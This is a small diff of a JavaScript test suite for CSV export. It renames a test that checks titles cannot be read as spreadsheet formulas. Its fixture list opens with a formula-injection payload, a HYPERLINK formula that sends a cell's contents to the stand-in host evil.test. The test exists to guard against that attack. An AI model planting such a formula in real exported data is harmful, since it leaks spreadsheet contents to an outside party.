@@ -144,7 +144,7 @@ describe("as CSV", () => {
     expect([await get(omar), await get(viktor)]).toEqual([200, 403]);
   });
 
-  test("whatever stands in a title comes back, and no spreadsheet takes it for a formula", async () => {
+  test("any title is exported unchanged, except that no spreadsheet takes it for a formula", async () => {
     const [own, event] = await elsewhere();
     const FORMULAS = [
       '=HYPERLINK("https://evil.test?x="&A1,"click")',
